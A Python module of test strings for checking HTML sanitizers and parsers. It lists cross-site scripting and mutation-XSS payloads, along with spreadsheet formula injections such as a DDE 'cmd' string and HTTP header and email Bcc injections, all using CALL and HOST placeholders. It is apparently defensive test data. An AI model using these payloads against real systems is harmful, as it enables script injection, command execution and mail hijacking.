# SPDX-License-Identifier: EUPL-1.2
"""Texts that are made to get past a reader who cleans markup: broken, nested, decoded twice, with
marks and controls between the signs, in other forms of the letters, or very long. After `~` come
those that no browser of today runs by themselves; they are for the programs that read them."""

BROKEN = [
    '--><img src=x onerror=CALL>', '--!><img src=x onerror=CALL>',
    '<!--><img src=x onerror=CALL>-->', '<!-- --!><svg onload=CALL>',
    ']]><img src=x onerror=CALL>', '<![CDATA[><img src=x onerror=CALL>]]>',
    '<!DOCTYPE x><img src=x onerror=CALL>', '<?xml x?><img src=x onerror=CALL>',
    '</ x><img src=x onerror=CALL>', '<><img src=x onerror=CALL>', '<<img src=x onerror=CALL>>',
    '<img src=x onerror=CALL', '</title><img src=x onerror=CALL>',
    '</textarea><img src=x onerror=CALL>', '</noscript><svg onload=CALL>',
    '</option></select><img src=x onerror=CALL>',
    '</a></p></li></ul></main></body></html><svg onload=CALL>',
    '<plaintext><img src=x onerror=CALL>', '~<scr<script>ipt>CALL</scr</script>ipt>',
    '<template shadowrootmode=open><img src=x onerror=CALL></template>',
]

MUTATED = [
    '<svg><style><img src=x onerror=CALL></style></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=CALL>',
    "<noscript><p title='</noscript><img src=x onerror=CALL>'>",
    "<svg></p><style><a id='</style><img src=x onerror=CALL>'>",
    '<form><math><mtext></form><form><mglyph><svg onload=CALL>',
    '<table><img src=x onerror=CALL><tr>', '<svg><title><img src=x onerror=CALL></title></svg>',
    '<svg><foreignObject><img src=x onerror=CALL></svg>',
    '<math><annotation-xml encoding=text/html><img src=x onerror=CALL></math>',
    "<iframe><p title='</iframe><svg onload=CALL>'>",
]

DECODED = [
    '&lt;img src=x onerror=CALL&gt;', '&amp;lt;img src=x onerror=CALL&amp;gt;',
    '&#x3c;svg onload=CALL&#x3e;', '&#0000060svg onload=CALL&#0000062',
    '%3Cimg%20src%3Dx%20onerror%3DCALL%3E', '%253Csvg%2520onload%253DCALL%253E',
    '\\u003csvg onload=CALL\\u003e', '\\x3csvg onload=CALL\\x3e',
    '&quot; autofocus onfocus=CALL x=&quot;', '&#39;&#62;&#60;svg onload=CALL&#62;',
    '\uff1csvg onload=CALL\uff1e', '\ufe64svg onload=CALL\ufe65',
    '\uff02 autofocus onfocus=CALL x=\uff02', "~{{constructor.constructor('CALL')()}}",
    '~<%= CALL %>', '~\\(CALL)', '~+ADw-script+AD4-CALL+ADw-/script+AD4-',
    '~\xc0\xbcscript\xc0\xbeCALL', '<\u017fcript>CALL</\u017fcript>',
    '~\u2039script\u203aCALL\u2039/script\u203a',
]

MARKED = [
    '<img src=x onerror=CALL>\u0338', 'x\u0338"\u0338 autofocus onfocus=CALL y="',
    "'\u0338 autofocus onfocus=CALL y='", '"\u0301>\u0301<img src=x onerror=CALL>',
    '<x\u0338 autofocus tabindex=1 onfocus=CALL>', '"\u200d><svg onload=CALL>\u200d',
    '"\u20e3 autofocus onfocus=CALL x="', '=\u200d"><svg onload=CALL>',
    '\ufe0f<svg onload=CALL>\ufe0f', '&\u0338lt;<svg onload=CALL>',
    '"\u034f autofocus onfocus=CALL x\u034f="', '<svg\u0338><script>CALL</script></svg>',
    '\u0338<img src=x\u0338 onerror=CALL>', '<\u0338img src=x onerror=CALL>',
    '~<\u200dscript>CALL</\u200dscript>', '\u202e<svg onload=CALL>\u202c',
    '\u2066<img src=x onerror=CALL>\u2069', '\u200f"\u200f autofocus onfocus=CALL x="',
    '\u061c<svg onload=CALL>', '\ufeff<svg onload=CALL>', '\u3164<svg onload=CALL>\u1160',
    '\U000e0020<svg onload=CALL>\U000e007f', "\xa0'\xa0><svg onload=CALL>",
]

CONTROLS = [
    '\x00<img src=x onerror=CALL>', '<img src=x\x00 onerror=CALL>',
    '<img src=x onerror=\x00CALL><svg onload=CALL>', '\x02<img src=x onerror=CALL>\x02',
    '\x1b[31m<svg onload=CALL>', '\x7f"\x7f><svg onload=CALL>', '\x85<svg onload=CALL>\x9b',
    '\x0b<svg\x0conload=CALL>', '\r\n\r\n<svg onload=CALL>', '\ufffd<svg onload=CALL>\ufffe',
]

LONG = [
    "<svg " + "x " * 400 + "onload=CALL>", "<" * 1500 + "svg onload=CALL>",
    "<i>" * 300 + "<svg onload=CALL>", "\"'" * 700 + "><svg onload=CALL>",
    "e" + "\u0301" * 900 + "<svg onload=CALL>", "CALL" + " " * 900 + "<svg onload=CALL>",
    "<!--" + "-" * 1200 + "><svg onload=CALL>",
]

# For spreadsheets, header fields and letters.
OTHERS = [
    '~=HYPERLINK("http://HOST/","CALL")', '~@SUM(1)*CALL', '+CALL', '-CALL', '~\u200d=CALL',
    '~\u202e@CALL', '~\uff1dCALL', '~\xa0=CALL', '~\t=CALL', "~=cmd|' /C CALL'!A1",
    '~x\r\nBcc: a@HOST', '~x\r\nSet-Cookie: a=CALL',
    'x\r\nContent-Type: text/html\r\n\r\n<svg onload=CALL>', '~=?utf-8?q?=0d=0aBcc:_a=40HOST?=',
    '~x%0d%0aLocation:%20//HOST/z', '~"; filename="CALL.html', '~x\u2028Bcc: a@HOST\u2029',
    '~<a@HOST>, CALL', '~,"=CALL"', '~;=CALL;', '~\n=CALL', "~'=CALL",
]
